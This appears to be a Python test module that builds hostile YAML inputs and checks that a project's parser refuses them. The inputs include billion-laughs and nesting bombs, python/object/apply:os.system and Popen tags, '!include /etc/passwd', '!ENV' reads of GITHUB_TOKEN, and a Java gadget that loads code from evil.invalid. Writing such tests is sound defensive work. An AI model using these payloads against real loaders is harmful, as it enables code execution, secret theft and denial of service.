"""Rows aimed at the YAML reader: bombs, tags, keys written twice."""

from __future__ import annotations

from collections.abc import Iterator

from journeyascode.source.codes import (
    ANCHOR,
    BAD_DATE,
    DIRECTIVE,
    DUPLICATE_KEY,
    HIDDEN,
    KEY_NOT_TEXT,
    MORE_PROBLEMS,
    SECOND_DOCUMENT,
    SYNTAX,
    TAG,
    TOO_DEEP,
    TOO_LARGE,
    TOO_LONG,
    TOO_MANY_VALUES,
    UNKNOWN_KEY,
    WRONG_TYPE,
)
from tests.hostile.row import Row, accepted, bounded, refused
from tests.hostile.template import after, before, book, journey, quoted

NINE = range(1, 10)
_LAUGHS = "a0: &a0 [lol]\n" + "".join(
    f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]\n" for i in NINE
)
_LAUGHING_KEYS = "a0: &a0 {x: y}\n" + "".join(
    f"a{i}: &a{i} {{{','.join(f'k{j}: *a{i - 1}' for j in range(10))}}}\n" for i in NINE
)
_MERGES = "a0: &a0 {k: 1}\n" + "".join(
    f"a{i}: &a{i} {{<<: [{','.join([f'*a{i - 1}'] * 10)}]}}\n" for i in range(1, 8)
)


def bombs() -> Iterator[Row]:
    yield from _aliases()
    yield from _depths()
    yield from _sizes()
    yield from _numbers()


def _aliases() -> Iterator[Row]:
    many = (ANCHOR, MORE_PROBLEMS)
    laughs = _LAUGHS + journey()
    yield refused("bomb", "billion laughs", book(laughs), *many, why="9^9 nodes of 300 bytes")
    yield refused("bomb", "billion laughs in a field", book(_LAUGHS + journey(name="*a9")), *many)
    yield refused("bomb", "billion laughs of mappings", book(_LAUGHING_KEYS + journey()), *many)
    yield refused("bomb", "merge keys of merge keys", book(_MERGES + journey()), *many)
    yield refused("bomb", "merge key with itself", before("a: &a\n  <<: *a\n"), ANCHOR)
    yield refused("bomb", "list in itself", book(description="&a [*a]"), ANCHOR)
    yield refused("bomb", "mapping in itself", before("x: &x\n  y: *x\n"), ANCHOR)
    long = f'a: &a "{"x" * 20_000}"\nb: [{",".join(["*a"] * 2000)}]\n'
    yield refused("bomb", "alias of a long text", before(long), *many, why="40 MB out of 30 kB")
    yield refused("bomb", "one plain alias", book(goal="&t same", says="*t"), ANCHOR)
    anchors = "".join(f"k{i}: &x{i} 1\n" for i in range(50_000))
    yield refused("bomb", "50,000 anchors", before(anchors), *many)
    directives = "".join(f"%TAG !e{i}! tag:x{i},2000:\n" for i in range(20_000)) + "---\n"
    yield refused("bomb", "20,000 directives", before(directives), DIRECTIVE, MORE_PROBLEMS)


def _depths() -> Iterator[Row]:
    deep = {
        "100,000 brackets": "a: " + "[" * 100_000 + "]" * 100_000 + "\n",
        "200,000 brackets never closed": "a: " + "[" * 200_000,
        "20,000 mappings": "a: " + "{a: " * 20_000 + "1" + "}" * 20_000,
        "1,000 indented keys": "".join(f"{' ' * i}a:\n" for i in range(1000)) + " " * 1000 + "b",
        "30,000 dashes": "- " * 30_000 + "x\n",
    }
    for name, text in deep.items():
        yield refused("bomb", name, book(text), TOO_DEEP, why="overflows the stack of C")
    keys = book("? " * 3000 + "x\n")
    yield refused("bomb", "3,000 keys in keys", keys, KEY_NOT_TEXT, TOO_DEEP)


def _sizes() -> Iterator[Row]:
    large = quoted("x" * 3_000_000)
    yield refused("bomb", "text of 3 MB", book(description=large), TOO_LONG)
    key = quoted("k" * 1_000_000) + ": 1\n"
    yield refused("bomb", "key of 1 MB", before(key), UNKNOWN_KEY, SYNTAX)
    keys = "".join(f"k{i}: {i}\n" for i in range(120_000))
    yield refused("bomb", "120,000 keys", before(keys), TOO_MANY_VALUES)
    some = "".join(f"k{i}: {i}\n" for i in range(5000))
    yield refused("bomb", "5,000 unknown keys", before(some), UNKNOWN_KEY, MORE_PROBLEMS)
    yield refused("bomb", "50,000 documents", book("---\na: 1\n" * 50_000), SECOND_DOCUMENT)
    stages = "".join(f"  - {{name: {i}, bogus{i}: 1}}\n" for i in range(20_000))
    wrong = book(f"kind: journey\nid: x\nname: x\nstages:\n{stages}")
    yield refused("bomb", "20,000 wrong stages", wrong, UNKNOWN_KEY, WRONG_TYPE, MORE_PROBLEMS)
    yield refused("bomb", "comment of 5 MB", before(f"#{'x' * 5_000_000}\n"), TOO_LARGE)
    folded = book("a: " + "x\n  " * 200_000 + "\n")
    yield refused("bomb", "text folded over 200,000 lines", folded, "JAC101")
    escapes = book(description='"' + "\\u0041" * 200_000 + '"')
    yield refused("bomb", "200,000 escapes", escapes, TOO_LONG)
    hidden = book(description='"' + "\\u200b" * 100_000 + '"')
    yield refused("bomb", "100,000 hidden escapes", hidden, HIDDEN, MORE_PROBLEMS)
    yield bounded("bomb", "100,000 empty lines", before("\n" * 100_000))


def _numbers() -> Iterator[Row]:
    yield refused("bomb", "number of base 60", book(number="1" + ":1" * 20_000), WRONG_TYPE)
    yield refused("bomb", "hex number of 1 MB", book(number="0x" + "f" * 1_000_000), WRONG_TYPE)
    yield refused("bomb", "number of 10,000 digits", book(number="9" * 10_000), WRONG_TYPE)
    yield refused("bomb", "underscores", book(number="1" + "_" * 300_000 + "0"), WRONG_TYPE)
    yield refused("bomb", "decimals", book(number="0." + "3" * 300_000), WRONG_TYPE)
    yield refused("bomb", "day of 40,000 digits", book(due="1" * 40_000 + "x"), BAD_DATE)


OWNED = "touch /tmp/jac_pwned"
TAGS = {
    "os.system": f'!!python/object/apply:os.system ["{OWNED}"]',
    "Popen": '!!python/object/apply:subprocess.Popen [["touch", "/tmp/jac_pwned"]]',
    "new": "!!python/object/new:type [x, [], {}]",
    "name": "!!python/name:os.system",
    "module": "!!python/module:antigravity",
    "tuple": "!!python/tuple [1, 2]",
    "verbatim": f'!<tag:yaml.org,2002:python/object/apply:os.system> ["{OWNED}"]',
    "of its own": "!Foo {a: 1}",
    "include": "!include /etc/passwd",
    "include beside": "!include ../outside/canary.txt",
    "environment": "!ENV [SECRET, GITHUB_TOKEN]",
    "relative": "!relative $config_dir",
    "vault": "!vault x",
    "ruby": "!ruby/object:Gem::Installer {i: x}",
    "java": '!!javax.script.ScriptEngineManager [!!java.net.URL ["http://evil.invalid/"]]',
    "binary": "!!binary QUFBQUFB",
    "set": "!!set {a, b}",
    "omap": "!!omap [a: 1]",
    "timestamp": "!!timestamp 2026-01-01",
    "float": "!!float .nan",
    "int": '!!int "12"',
    "str": "!!str 2026",
    "non-specific": "! 2026",
}


def tags() -> Iterator[Row]:
    for name, value in TAGS.items():
        why = "only what JSON could say is read"
        yield refused("tag", name, book(description=value), TAG, why=why)
    prefix = "%TAG ! tag:yaml.org,2002:python/object/apply:\n---\n"
    harmless = book(prefix + journey(description=f'!os.system ["{OWNED}"]'))
    yield refused("tag", "redefined to look harmless", harmless, DIRECTIVE)
    yield refused("tag", "on a key", after("!!str summary: x\n"), TAG)
    yield refused("tag", "on the whole file", before("!!map\n"), TAG)


def duplicate_keys() -> Iterator[Row]:
    nested = journey().replace("    goal:", "    goal: h\n    goal:")
    twice = {
        "at the top": after("name: Other\n"),
        "nested": book(nested),
        "quoted": after('"name": Other\n'),
        "escaped": after('"nam\\u0065": Other\n'),
        "composed and decomposed": after("e\u0301: 1\n\u00e9: 2\n"),
        "in flow": book(description="{fi: a, fi: b}"),
    }
    for name, files in twice.items():
        yield refused("dupkey", name, files, DUPLICATE_KEY, why="a reviewer reads the first")
    yield refused("dupkey", "in another case", after("Name: Other\n"), UNKNOWN_KEY)
    yield refused("dupkey", "number and text", after('1: a\n"1": b\n'), DUPLICATE_KEY)
    merged = book("b: &b {name: hidden}\n" + journey() + "<<: *b\n")
    yield refused("dupkey", "merge key hides a value", merged, ANCHOR)
    odd = after("null: 1\ntrue: 2\n3.5: 3\n2026-01-01: 4\n")
    yield refused("dupkey", "keys that look like values", odd, UNKNOWN_KEY)
    yield refused("dupkey", "key that is a list", after("? [a]\n: 5\n"), KEY_NOT_TEXT)
    yield refused("dupkey", "key that is a mapping", after("? {a: b}\n: 5\n"), KEY_NOT_TEXT)
    yield refused("dupkey", "key that is missing", book(description='{"": a}'), KEY_NOT_TEXT)
    yield accepted("dupkey", "same key at two depths", after("summary: x\n"))
